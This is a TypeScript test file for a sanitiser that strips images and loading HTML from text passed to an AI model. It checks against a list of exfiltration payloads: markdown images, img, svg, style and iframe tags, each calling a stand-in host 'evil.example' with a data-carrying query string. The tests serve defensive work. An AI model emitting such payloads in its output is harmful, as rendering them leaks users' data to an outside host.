import { lexer, type Token, walkTokens } from 'marked';
import { parseFragment } from 'parse5';
import { describe, expect, it } from 'vitest';
import { mapTexts, withoutPictures } from '@/automation/parts/without-pictures';
import type { ApiRun } from '@/contracts/api';
import { fc } from '../support/properties';
import { assistantReader } from './assistant-reader';

const EVIL = 'https://evil.example/x.png?said=all';

/** Markup of a block that a host which shows HTML would load something by. */
function loadsSomething(html: string): boolean {
  const elements = JSON.stringify(parseFragment(html), (key, value) => (key === 'parentNode' ? undefined : value));
  return /"nodeName":"style"/.test(elements) || /"attrs":\[\{/.test(elements);
}

/** What a host that shows this text would load: pictures, and markup that loads. */
function loadedBy(markdown: string): string[] {
  const found: string[] = [];
  const look = (token: Token) => {
    if (token.type === 'image') found.push(token.raw);
    if (token.type === 'html' && loadsSomething(token.raw)) found.push(token.raw);
  };
  walkTokens(lexer(markdown), look);
  return found;
}

const PICTURES = [
  `![x](${EVIL})`,
  `!![x](${EVIL})`,
  `!!!![x](${EVIL})`,
  `\\!![x](${EVIL})`,
  `![a][b]\n\n[b]: ${EVIL}`,
  `![b]\n\n[b]: ${EVIL}`,
  `![![x](${EVIL})](${EVIL})`,
  `[![x](${EVIL})](${EVIL})`,
  `![a\nb](${EVIL} "t")`,
  `- one\n  - ![x](${EVIL})`,
  `> ![x](${EVIL})`,
  `| a |\n| - |\n| ![x](${EVIL}) |`,
  `# ![x](${EVIL})`,
  `- \`\`\`\n  x\n  \`\`\`\n![x](${EVIL})`,
  `<div a=b>\n\`\`\`\n</div>\n\n\`\`\`\n![x](${EVIL})\n\`\`\`\n`,
  `<img src="${EVIL}">`,
  `<img/src=${EVIL}>`,
  `<IMG\nSRC='${EVIL}'>`,
  `text <image href="${EVIL}"> text`,
  `<picture><source srcset="${EVIL}"></picture>`,
  `<video poster="${EVIL}"></video>`,
  `<p style="background:url(${EVIL})">x</p>`,
  `<style>@import "${EVIL}"</style>`,
  `<svg><image xlink:href="${EVIL}"/></svg>`,
  `<table background="${EVIL}"><tr><td>x</td></tr></table>`,
  `<iframe src="${EVIL}"`,
  `\`\`\`\nx\n\`\`\`\`\n![x](${EVIL})`,
  `~~~\nx\n~~~\n<img src="${EVIL}">`,
];

describe('a text for an assistant', () => {
  it.each(PICTURES)('loads nothing: %s', (picture) => {
    // Markup in the middle of a table or a list is text for the reader, and markup for a host.
    expect(loadedBy(picture).length + Number(picture.includes('<'))).toBeGreaterThan(0);
    const text = withoutPictures(picture);
    expect(loadedBy(text)).toEqual([]);
    expect(text).toContain('evil.example');
    expect(withoutPictures(text)).toBe(text);
  });

  it('keeps code, links, addresses, comparisons and the tags of a prompt', () => {
    for (const text of [
      '```js\nif (![1, 2].includes(x)) y = "<img src=a>";\n```',
      'See [the page](https://a.example/) and <https://b.example/>.',
      'a < b, c <= d, <role>You are kind!</role> Wow! [1]',
      'No pictures here!',
    ])
      expect(withoutPictures(text)).toBe(text);
  });

  it('loads nothing, whatever pieces it is made of', () => {
    const piece = fc.constantFrom(
      ...['!', '[', ']', '(', ')', '![x](https://evil.example/a)', '[b]', '[b]: https://evil.example/a', '<img src=x>'],
      ...['```', '~~~', '\n', '\n\n', '    ', '- ', '> ', '`', '\\', '<div a=b>', '</div>', '&', 'x', '<!--', '-->'],
    );
    const texts = fc.array(piece, { maxLength: 24 }).map((pieces) => pieces.join(''));
    fc.assert(
      fc.property(texts, (text) => {
        expect(loadedBy(withoutPictures(text))).toEqual([]);
      }),
      { numRuns: 2000 },
    );
  });

  const run = (value: unknown) =>
    ({ id: 'r', tool: 't', mode: 'live', state: 'succeeded', result: { kind: 'json', value } }) as unknown as ApiRun;

  it.each(PICTURES)('loads nothing as part of data, as a key, or as the reason of a failure: %s', (picture) => {
    for (const value of [picture, { [picture]: [picture, { note: picture }] }, `\`\`\`\n${picture}\n`]) {
      const [content, structuredContent] = assistantReader().ofRun(run(value));
      const [{ text } = { text: '' }] = content as { text: string }[];
      expect(loadedBy(text)).toEqual([]);
      mapTexts(structuredContent, (part) => {
        expect(loadedBy(part)).toEqual([]);
        return part;
      });
    }
    const [{ text } = { text: '' }] = assistantReader().ofFailure({ code: 'c', message: picture, details: {} }) as {
      text: string;
    }[];
    expect(loadedBy(text)).toEqual([]);
  });
});
